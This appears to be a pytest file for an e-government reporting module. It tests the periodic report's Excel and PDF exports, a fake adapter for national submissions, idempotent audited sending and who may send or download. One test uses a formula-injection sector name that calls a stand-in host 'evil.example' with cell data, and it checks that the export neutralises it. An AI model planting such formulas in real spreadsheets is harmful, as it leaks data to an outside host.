"""The periodic report as Excel and PDF, the national report adapter and its fake, and who may do what."""

from __future__ import annotations

import shutil
import subprocess
from datetime import datetime, timedelta
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from egov.core.clock import VN_TZ, system_clock
from egov.core.errors import DomainError, PermissionDenied
from egov.core.models import AuditEvent
from egov.reports import exports, national, selectors, services
from egov.reports.indicators import month
from egov.reports.models import NationalSubmission
from tests.factories import UserFactory

from .test_indicators import AFTER

pytestmark = pytest.mark.django_db
MARCH = "ky=month&tu=2026-03-01"
FIRST_DATA_ROW = exports.FIRST_HEADER_ROW + 4


def justice_report(j: Any) -> exports.PeriodicReport:
    scope = selectors.Scope(agency_ids=(j.agency.pk,))
    return exports.periodic_report(
        period=month(2026, 3), scope=scope, now=AFTER, subject=j.agency.name, agency=j.agency
    )


def test_the_form_figures_are_the_indicator_counts(month_of_march):
    j, _x = month_of_march
    report = justice_report(j)
    # By hand (tests/reports/conftest.py): new A B C D F G (B at the desk), E carried over; resolved in March
    # A early, B on time, C early, D overdue; open at the end of March: E overdue, F in time.
    assert report.total == {
        "received": 7,
        "received_online": 5,
        "received_desk": 1,
        "received_postal": 0,
        "carried_over": 1,
        "resolved": 4,
        "resolved_early": 2,
        "resolved_on_time": 1,
        "resolved_overdue": 1,
        "in_progress": 2,
        "in_progress_on_time": 1,
        "in_progress_overdue": 1,
    }
    counts = selectors.province_counts(
        selectors.indicator_counts(
            period=month(2026, 3), scope=selectors.Scope(agency_ids=(j.agency.pk,)), now=AFTER, group_by="agency"
        )
    )
    assert report.total == exports.form_figures(counts)
    assert [r.sector_name for r in report.rows] == [j.procedure.sector.name]


def test_the_workbook_holds_the_figures_as_numbers_in_the_form_layout(month_of_march):
    j, _x = month_of_march
    report = justice_report(j)
    ws = load_workbook(BytesIO(exports.report_xlsx(report))).active
    h = exports.FIRST_HEADER_ROW
    assert ws["A5"].value == exports.TITLE and j.agency.name.upper() == ws["A3"].value
    assert ws[f"C{h}"].value == "Số hồ sơ nhận giải quyết" and ws[f"H{h}"].value == "Kết quả giải quyết"
    assert ws[f"D{h + 1}"].value == "Trong kỳ" and ws[f"G{h + 1}"].value == "Từ kỳ trước chuyển qua"
    assert [ws.cell(row=h + 2, column=c).value for c in range(4, 7)] == ["Trực tuyến", "Trực tiếp", "Dịch vụ bưu chính"]
    assert f"C{h}:G{h}" in {str(r) for r in ws.merged_cells.ranges}
    sector_row = [ws.cell(row=FIRST_DATA_ROW, column=c).value for c in range(1, 15)]
    total_row = [ws.cell(row=FIRST_DATA_ROW + 1, column=c).value for c in range(2, 15)]
    assert sector_row == [1, j.procedure.sector.name, 7, 5, 1, 0, 1, 4, 2, 1, 1, 2, 1, 1]
    assert total_row == ["Tổng cộng", *[report.total[k] for k in exports.COLUMN_KEYS]]
    assert all(isinstance(v, int) for v in total_row[1:])
    assert ws.freeze_panes == f"C{FIRST_DATA_ROW}"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.cell(row=FIRST_DATA_ROW, column=3).border.left.style == "thin"


def test_the_pdf_renders_the_report(month_of_march, tmp_path):
    j, _x = month_of_march
    content = exports.report_pdf(justice_report(j))
    assert content.startswith(b"%PDF")
    if shutil.which("pdftotext"):
        path = tmp_path / "r.pdf"
        path.write_bytes(content)
        text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True).stdout
        assert j.agency.name.upper() in text and "Số hồ sơ nhận giải quyết" in text and "Tổng cộng" in text


def test_downloads_follow_the_report_pages_rules(client, month_of_march, province_admin):
    j, x = month_of_march
    client.force_login(j.leader)
    page = client.get(f"/bao-cao/?{MARCH}").content.decode()
    assert "/bao-cao/tai-excel/?" in page and "/bao-cao/tai-pdf/?" in page
    xlsx = client.get(f"/bao-cao/tai-excel/?{MARCH}")
    assert xlsx.status_code == 200 and "attachment" in xlsx["Content-Disposition"]
    ws = load_workbook(BytesIO(xlsx.content)).active
    assert ws.cell(row=FIRST_DATA_ROW + 1, column=3).value == 7  # their agency only: not Construction's X
    assert client.get(f"/bao-cao/tai-excel/?{MARCH}&co_quan={x.agency.pk}").status_code == 403
    assert client.get(f"/bao-cao/tai-pdf/?{MARCH}&co_quan={x.agency.pk}").status_code == 403
    client.force_login(UserFactory(citizen=True))
    assert client.get(f"/bao-cao/tai-excel/?{MARCH}").status_code == 403
    client.force_login(province_admin)
    whole = load_workbook(BytesIO(client.get(f"/bao-cao/tai-excel/?{MARCH}").content)).active
    assert whole["A3"].value == "TỈNH LÂM ĐỒNG"
    pdf = client.get(f"/bao-cao/tai-pdf/?{MARCH}&co_quan={x.agency.pk}")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")


def test_the_fake_accepts_a_sound_payload_and_rejects_totals_that_do_not_add_up(month_of_march):
    j, _x = month_of_march
    payload = national.build_payload(justice_report(j), code=j.agency.eid_code)
    assert national.validate_payload(payload) == []
    verdict = national.LocalFakeBackend().submit(payload, at=AFTER)
    assert verdict.accepted and verdict.reference.startswith("BCQG-")
    payload["totals"]["received_online"] += 1
    payload["sectors"][0]["figures"]["resolved_overdue"] = -1
    del payload["agency_code"]
    assert national.validate_payload(payload) == ["Thiếu trường bắt buộc “agency_code”."]
    payload["agency_code"] = j.agency.eid_code
    errors = national.validate_payload(payload)
    assert any("“received”" in e and "received_online" in e for e in errors)
    assert any("resolved_overdue" in e and "không âm" in e for e in errors)
    rejected = national.LocalFakeBackend().submit(payload, at=AFTER)
    assert not rejected.accepted and rejected.reference == "" and rejected.errors == errors


class TamperingBackend(national.LocalFakeBackend):
    """Sends a payload whose received total does not add up, as a buggy sender would."""

    def submit(self, payload, *, at):
        payload["totals"]["received"] += 1
        return super().submit(payload, at=at)


class BrokenBackend:
    name = "broken"

    def submit(self, payload, *, at):
        raise ConnectionError("national system unreachable")


def test_sending_is_idempotent_audited_and_resent_only_with_a_reason(month_of_march, clock):
    j, _x = month_of_march
    clock.set(AFTER)
    first = services.national_report_send(actor=j.leader, agency=j.agency, period=month(2026, 3), clock=clock)
    assert first.status == "accepted" and first.payload["totals"]["received"] == 7
    assert first.agency_code == j.agency.eid_code and first.reference
    again = services.national_report_send(actor=j.leader, agency=j.agency, period=month(2026, 3), clock=clock)
    assert again.pk == first.pk
    resent = services.national_report_send(
        actor=j.leader, agency=j.agency, period=month(2026, 3), reason="Bổ sung hồ sơ nhập muộn", clock=clock
    )
    assert resent.pk != first.pk and resent.attempt == 2 and resent.resend_reason
    assert AuditEvent.objects.filter(action="reports.national_send").count() == 2
    clock.set(datetime(2026, 5, 20, 9, 0, tzinfo=VN_TZ))  # May is not over: its figures may still change
    with pytest.raises(DomainError) as refused:
        services.national_report_send(actor=j.leader, agency=j.agency, period=month(2026, 5), clock=clock)
    assert refused.value.code == "reports.period_open"


def test_a_rejection_is_stored_whole_and_shown_to_the_province(month_of_march, clock, settings, client, province_admin):
    j, _x = month_of_march
    settings.NATIONAL_REPORTING_BACKEND = "tests.reports.test_exports.TamperingBackend"
    clock.set(AFTER)
    sent = services.national_report_send(actor=province_admin, agency=j.agency, period=month(2026, 3), clock=clock)
    assert sent.status == "rejected" and sent.reference == "" and any("received" in e for e in sent.errors)
    assert NationalSubmission.objects.filter(status="accepted").count() == 0
    client.force_login(province_admin)
    response = client.post(
        "/bao-cao/bao-cao-quoc-gia/", {"co_quan": j.agency.pk, "ky": "month", "tu": "2026-03-01"}, follow=True
    )
    page = response.content.decode()
    assert "từ chối" in page and "Bị từ chối" in page and j.agency.name in page
    # An error while sending leaves nothing behind.
    settings.NATIONAL_REPORTING_BACKEND = "tests.reports.test_exports.BrokenBackend"
    before = (NationalSubmission.objects.count(), AuditEvent.objects.filter(action="reports.national_send").count())
    with pytest.raises(ConnectionError):
        services.national_report_send(actor=province_admin, agency=j.agency, period=month(2026, 4), clock=clock)
    after = (NationalSubmission.objects.count(), AuditEvent.objects.filter(action="reports.national_send").count())
    assert after == before


def test_the_province_sends_the_whole_provinces_report(month_of_march, clock, client, province_admin, lam_dong):
    j, _x = month_of_march
    clock.set(AFTER)
    with pytest.raises(PermissionDenied):
        services.national_report_send(actor=j.leader, agency=None, period=month(2026, 3), clock=clock)
    sent = services.national_report_send(actor=province_admin, agency=None, period=month(2026, 3), clock=clock)
    assert sent.status == "accepted" and sent.agency is None
    assert sent.agency_code == lam_dong["ubnd-tinh"].eid_code and sent.payload["scope"] == "province"
    assert sent.payload["totals"]["received"] == 8  # Justice's 7 and Construction's X
    client.force_login(province_admin)
    client.post("/bao-cao/bao-cao-quoc-gia/", {"co_quan": "", "ky": "month", "tu": "2026-03-01"})
    assert NationalSubmission.objects.filter(agency=None).count() == 1  # idempotent through the page too
    assert sent.agency_code in client.get("/bao-cao/bao-cao-quoc-gia/").content.decode()
    client.force_login(j.leader)  # a leader of one agency neither sends nor sees the province's report
    assert client.post("/bao-cao/bao-cao-quoc-gia/", {"co_quan": "", "ky": "month"}).status_code == 403
    assert sent.agency_code not in client.get("/bao-cao/bao-cao-quoc-gia/").content.decode()


def test_only_leaders_of_the_agency_or_the_province_send(month_of_march, clock, client, lam_dong):
    j, x = month_of_march
    with pytest.raises(PermissionDenied):
        services.national_report_send(actor=x.leader, agency=j.agency, period=month(2026, 3), clock=clock)
    with pytest.raises(PermissionDenied):
        services.national_report_send(actor=j.desk, agency=j.agency, period=month(2026, 3), clock=clock)
    client.force_login(x.leader)
    assert client.post("/bao-cao/bao-cao-quoc-gia/", {"co_quan": j.agency.pk, "ky": "month"}).status_code == 403
    client.force_login(j.desk)
    assert client.post("/bao-cao/bao-cao-quoc-gia/", {"co_quan": j.agency.pk, "ky": "month"}).status_code == 403
    assert "Chỉ lãnh đạo" in client.get("/bao-cao/bao-cao-quoc-gia/").content.decode()
    client.force_login(j.leader)
    form = client.get("/bao-cao/bao-cao-quoc-gia/").content.decode()  # offers last month, which is over
    last = system_clock.now().date().replace(day=1) - timedelta(days=1)
    assert f'value="{last:%Y-%m}-01"' in form and f'value="{last:%Y-%m-%d}"' in form
    client.force_login(j.leader)
    response = client.post("/bao-cao/bao-cao-quoc-gia/", {"co_quan": j.agency.pk, "ky": "month", "tu": "2026-03-01"})
    assert response.status_code == 302
    listing = client.get("/bao-cao/bao-cao-quoc-gia/").content.decode()
    assert "Đã được tiếp nhận" in listing
    client.force_login(x.leader)  # another agency's leader does not see it
    assert j.agency.eid_code not in client.get("/bao-cao/bao-cao-quoc-gia/").content.decode()
    assert NationalSubmission.objects.count() == 1


def test_a_sector_named_like_a_formula_is_exported_as_text(client, month_of_march):
    from egov.catalog.inputs import procedure_input
    from egov.catalog.services import procedure_update
    from tests.catalog.conftest import raw_procedure

    evil = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm")'
    j, _x = month_of_march
    procedure_update(
        actor=j.leader,
        procedure=j.procedure,
        data=procedure_input(raw_procedure(j.agency, code=j.procedure.code, sector=evil)),
    )
    client.force_login(j.leader)
    ws = load_workbook(BytesIO(client.get("/bao-cao/tai-excel/?ky=month&tu=2026-03-01").content)).active
    texts = [c.value for row in ws.iter_rows() for c in row if c.data_type == "s"]
    assert evil in texts and not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
